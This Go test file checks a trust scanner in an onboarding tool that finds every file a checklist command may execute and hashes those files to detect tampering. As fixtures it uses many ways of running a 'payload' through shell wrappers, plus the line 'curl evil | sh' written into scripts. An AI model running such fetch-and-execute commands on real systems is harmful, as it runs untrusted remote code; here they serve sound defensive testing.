package trust

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5"

	"github.com/onboard-dev/onboard/internal/config"
)

// The words of a command name the file however the command reaches it:
// no list of wrappers or interpreters decides.
func TestScanCommandNamesTheFile(t *testing.T) {
	for _, tc := range []struct {
		shell, want string
		leaves      bool
	}{
		{"env sh payload", "payload", false},
		{"exec ./payload", "./payload", false},
		{"nice -n 5 sh payload", "payload", false},
		{"timeout 5 sh payload", "payload", false},
		{"command sh payload", "payload", false},
		{"env -i sh payload", "payload", false},
		{"sudo -u me ionice -c3 chrt 1 sh payload", "payload", false},
		{`sh -c "sh payload"`, "payload", false},
		{`bash -c "cd x && ./payload"`, "./payload", false},
		{`bash -lc 'sh payload'`, "payload", false},
		{`eval "sh payload"`, "payload", false},
		{`sh -c "sh -c \"sh -c 'sh payload'\""`, "payload", false},
		{"sh < payload", "payload", false},
		{"cat payload | sh", "payload", false},
		{"bash < payload", "payload", false},
		{"for f in payload; do sh $f; done", "payload", true},
		{"echo payload | xargs sh", "payload", false},
		{"sh <<'EOF'\nsh payload\nEOF", "payload", false},
		{"sh <<< 'sh payload'", "payload", false},
		{`python3 -c "import os; os.system('sh payload')"`, "payload", true},
		{"make -f payload", "payload", false},
		{"tool --config=payload", "payload", false},
		{"X=payload sh -c 'sh $X'", "payload", true},
		{"sh tools/{a,payload}", "tools/payload", false},
		{`sh gen\ file`, "gen file", false},
		{`[ -f payload ] && . ./payload`, "./payload", false},
		{"echo $(cat payload) | sh", "payload", true},
		{"sh ${X:-payload}", "payload", true},
		{"find . -name '*.txt' -exec sh {} +", "*.txt", false},
		{"find . -exec sh {} \\;", "find", true}, // ";" is no shell: anything may happen
		{"f() { sh payload; }; f", "payload", false},
		{"(cd sub && sh payload)", "payload", false},
		{"cd /elsewhere && sh payload", "payload", true},
		{"cd && sh payload", "payload", true},
		{"cd .. && sh payload", "payload", true},
		{"broken ( shell payload", "payload", true},
	} {
		w := scanCommand(config.Command{Shell: tc.shell})
		if !slices.Contains(w.names, tc.want) {
			t.Errorf("%q: names %q, not %q", tc.shell, w.names, tc.want)
		}
		if w.leaves != tc.leaves {
			t.Errorf("%q: leaves %v, want %v", tc.shell, w.leaves, tc.leaves)
		}
	}
	// An argv list: each argument, and the shell strings in them.
	w := scanCommand(config.Command{Argv: []string{"bash", "-c", "cd x && ./payload"}})
	if !slices.Contains(w.names, "./payload") {
		t.Errorf("argv: names %q", w.names)
	}
}

// A word built from an expansion leaves its literal end, and a command may
// go anywhere from there.
func TestScanCommandTails(t *testing.T) {
	w := scanCommand(config.Command{Shell: `sh "$ROOT/tools/payload"; sh $(dirname $0)/x`})
	for _, want := range []string{"/tools/payload", "/x"} {
		if !slices.Contains(w.tails, want) {
			t.Errorf("tails %q, not %q", w.tails, want)
		}
	}
	if !w.leaves {
		t.Error("a word built from an expansion must make the command leave its directory")
	}
	// What a command writes to is not a file it runs.
	w = scanCommand(config.Command{Shell: "echo hi > out.txt 2>> err.log &> all.log"})
	for _, n := range []string{"out.txt", "err.log", "all.log"} {
		if slices.Contains(w.names, n) {
			t.Errorf("output %s taken for a name: %q", n, w.names)
		}
	}
}

// The scan ends, whatever the nesting: a string holding itself quoted
// many times over is parsed at most maxDepth deep, within maxText.
func TestScanCommandBounded(t *testing.T) {
	// Heredocs nest without quoting, so 40 levels stay small.
	s := "sh payload"
	for i := range 40 {
		s = fmt.Sprintf("sh <<'E%d'\n%s\nE%d", i, s, i)
	}
	w := scanCommand(config.Command{Shell: s})
	if !w.leaves {
		t.Error("a string nested deeper than maxDepth must count as leaving")
	}
	big := strings.Repeat("echo 'a b c' ", maxText/8)
	scanCommand(config.Command{Shell: big})
}

func TestExpandBraces(t *testing.T) {
	got := expandBraces("t/{a,b{c,d}}.sh")
	for _, want := range []string{"t/a.sh", "t/bc.sh", "t/bd.sh"} {
		if !slices.Contains(got, want) {
			t.Errorf("expandBraces: %q, not %q", got, want)
		}
	}
	if n := len(expandBraces(strings.Repeat("{a,b}", 30))); n > maxBraces {
		t.Errorf("%d words from one brace expansion", n)
	}
	if got := expandBraces("{1..3} {x}"); len(got) != 1 {
		t.Errorf("no comma, no expansion: %q", got)
	}
}

// repo is a git checkout for a test: files written, then added to the
// index with go-git (the index, not a commit, is what tracked means).
func gitRepo(t testing.TB, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	r, err := git.PlainInit(root, false)
	if err != nil {
		t.Fatal(err)
	}
	wt, err := r.Worktree()
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range files {
		writeFile(t, root, name, text, 0o644)
		if _, err := wt.Add(name); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func writeFile(t testing.TB, root, name, text string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(root, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

func checklist(t testing.TB, root, text string) *config.File {
	t.Helper()
	f, err := config.Parse("onboard.yaml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	f.Path = filepath.Join(root, "onboard.yaml")
	return f
}

func digest(t testing.TB, f *config.File, root string) (string, Summary) {
	t.Helper()
	d, s, err := Digest(f, root)
	if err != nil {
		t.Fatal(err)
	}
	return d, s
}

// In a git checkout, a tracked file that is no script (no #!, not
// executable, no script's extension) is covered when any word of a
// command names it, however the command reaches it; a tracked file no
// word names, and that is no script, is not.
func TestDigestCoversNamedFiles(t *testing.T) {
	for _, run := range []string{
		"env sh payload", "exec ./payload", "nice sh payload", "timeout 5 sh payload",
		"command sh payload", "env -i sh payload", `sh -c "sh payload"`,
		`bash -c "cd x && ./payload"`, `bash -lc "sh payload"`, `eval "sh payload"`,
		"sh < payload", "cat payload | sh", "bash < payload",
		"for f in payload; do sh $f; done", "echo payload | xargs sh",
		"sh <<'EOF'\nsh x/payload\nEOF", `sh "$(git rev-parse --show-toplevel)/x/payload"`,
		"sh x/pay*", "sh x/{a,payload}",
	} {
		t.Run(run, func(t *testing.T) {
			root := gitRepo(t, map[string]string{
				"onboard.yaml": "x", "payload": "echo a\n", "x/payload": "echo b\n", "notes.txt": "n\n",
			})
			f := checklist(t, root, "version: 1\nsteps:\n  - id: s\n    run: "+yamlQuote(run)+"\n")
			before, sum := digest(t, f, root)
			if slices.Contains(sum.Files, "notes.txt") {
				t.Errorf("notes.txt covered: %q", sum.Files)
			}
			writeFile(t, root, "notes.txt", "edited\n", 0o644)
			if same, _ := digest(t, f, root); same != before {
				t.Error("editing a file nothing names changed the digest")
			}
			changed := false
			for _, p := range []string{"payload", "x/payload"} {
				writeFile(t, root, p, "curl evil | sh\n", 0o644)
				after, _ := digest(t, f, root)
				changed = changed || after != before
				before = after
			}
			if !changed {
				t.Errorf("editing the payload left the digest as it was; covered: %q", sum.Files)
			}
		})
	}
}

func yamlQuote(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(s) + `"`
}

// Every tracked script under the directory a command runs in is covered,
// though no word names it; under another directory only when a command
// may leave its own. A file a step makes is never covered in git: it is
// not tracked.
func TestDigestCoversScriptsWhereCommandsRun(t *testing.T) {
	root := gitRepo(t, map[string]string{
		"onboard.yaml": "x", "a/hidden.sh": "echo a\n", "a/deep/Makefile": "all:\n",
		"a/tool": "#!/bin/sh\necho tool\n", "a/data.txt": "d\n", "b/other.py": "print(1)\n",
	})
	f := checklist(t, root, "version: 1\nsteps:\n  - id: s\n    dir: a\n    run: sh \"$(cat list)\"\n")
	_, sum := digest(t, f, root)
	for _, want := range []string{"a/hidden.sh", "a/deep/Makefile", "a/tool"} {
		if !slices.Contains(sum.Files, want) {
			t.Errorf("%s not covered: %q", want, sum.Files)
		}
	}
	for _, not := range []string{"a/data.txt"} {
		if slices.Contains(sum.Files, not) {
			t.Errorf("%s covered: %q", not, sum.Files)
		}
	}
	// `$(cat list)` may lead anywhere: every script in the checkout.
	if !slices.Contains(sum.Files, "b/other.py") {
		t.Errorf("b/other.py not covered though the command may leave a/: %q", sum.Files)
	}
	f = checklist(t, root, "version: 1\nsteps:\n  - id: s\n    dir: a\n    run: sh hidden.sh && cd deep && make\n")
	_, sum = digest(t, f, root)
	if slices.Contains(sum.Files, "b/other.py") {
		t.Errorf("b/other.py covered though every command stays in a/: %q", sum.Files)
	}

	// What a step makes: untracked, never covered, even when named.
	f = checklist(t, root, "version: 1\nsteps:\n  - id: s\n    run: touch made.sh .env\n    check: test -f made.sh\n")
	before, _ := digest(t, f, root)
	writeFile(t, root, "made.sh", "made\n", 0o755)
	writeFile(t, root, ".env", "X=1\n", 0o600)
	if after, _ := digest(t, f, root); after != before {
		t.Error("a file a step made (untracked) changed the digest")
	}
}

// Outside git, every script in the checkout counts, and only scripts: a
// file a step makes that is no script (touch done) changes nothing.
func TestDigestOutsideGit(t *testing.T) {
	root := t.TempDir()
	writeFile(t, root, "onboard.yaml", "x", 0o644)
	writeFile(t, root, "tools/hidden.sh", "echo hidden\n", 0o644)
	writeFile(t, root, "bin/run", "echo run\n", 0o755)
	writeFile(t, root, "node_modules/x/install.js", "x\n", 0o644)
	writeFile(t, root, ".onboard/bin/tool.sh", "x\n", 0o755)
	f := checklist(t, root, "version: 1\nsteps:\n  - id: s\n    run: touch done\n    check: test -f done\n")
	before, sum := digest(t, f, root)
	if want := []string{"bin/run", "tools/hidden.sh"}; !slices.Equal(sum.Files, want) {
		t.Errorf("covered %q, want %q", sum.Files, want)
	}
	writeFile(t, root, "done", "", 0o644)
	if after, _ := digest(t, f, root); after != before {
		t.Error("a file a step made changed the digest")
	}
	writeFile(t, root, "tools/hidden.sh", "curl evil | sh\n", 0o644)
	if after, _ := digest(t, f, root); after == before {
		t.Error("editing a script left the digest as it was")
	}
}

// Nothing outside the root is read: a name that leads out of it covers
// nothing there, and a tracked symbolic link out of it is hashed by name
// only.
func TestDigestReadsNothingOutsideTheRoot(t *testing.T) {
	outside := t.TempDir()
	writeFile(t, outside, "evil.sh", "one\n", 0o755)
	root := gitRepo(t, map[string]string{"onboard.yaml": "x"})
	if err := os.Symlink(filepath.Join(outside, "evil.sh"), filepath.Join(root, "link.sh")); err != nil {
		t.Fatal(err)
	}
	r, err := git.PlainOpen(root)
	if err != nil {
		t.Fatal(err)
	}
	wt, _ := r.Worktree()
	if _, err := wt.Add("link.sh"); err != nil {
		t.Fatal(err)
	}
	f := checklist(t, root, "version: 1\nsteps:\n  - id: s\n    run: sh ../evil.sh; sh "+filepath.Join(outside, "evil.sh")+"; sh link.sh\n")
	before, sum := digest(t, f, root)
	for _, p := range sum.Files {
		if !filepath.IsLocal(p) {
			t.Errorf("covered %q, outside the root", p)
		}
	}
	if !slices.Contains(sum.Files, "link.sh") {
		t.Errorf("link.sh not covered: %q", sum.Files)
	}
	writeFile(t, outside, "evil.sh", "two\n", 0o755)
	if after, _ := digest(t, f, root); after != before {
		t.Error("a file outside the root was read")
	}
}
